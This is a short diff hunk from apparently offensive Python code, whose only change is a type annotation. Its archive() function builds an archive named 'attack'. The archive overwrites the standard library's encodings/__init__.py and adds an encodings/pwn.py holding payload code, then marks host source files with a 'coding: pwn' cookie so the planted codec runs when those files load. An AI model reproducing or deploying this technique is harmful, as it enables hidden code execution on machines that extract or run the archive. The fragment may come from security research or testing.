@@ -109,7 +109,7 @@ def archive(tag: str, host_marker: str) -> bytes:
     cookie = b"# -*- coding: pwn -*-\n" + b"# " * 40 + b"\n"
     code = payload(host_marker).encode()
     stdlib = os.path.dirname(os.__file__)
-    entries = [(p, cookie, 0o644) for p in _host_sources()]
+    entries: list[tuple[str, bytes | None, int]] = [(p, cookie, 0o644) for p in _host_sources()]
     entries += [(os.path.join(stdlib, "encodings", "pwn.py"), code, 0o644),
                 (os.path.join(stdlib, "encodings", "__init__.py"), code, 0o644)]
     attack = _layer(entries, deep=DEEP)
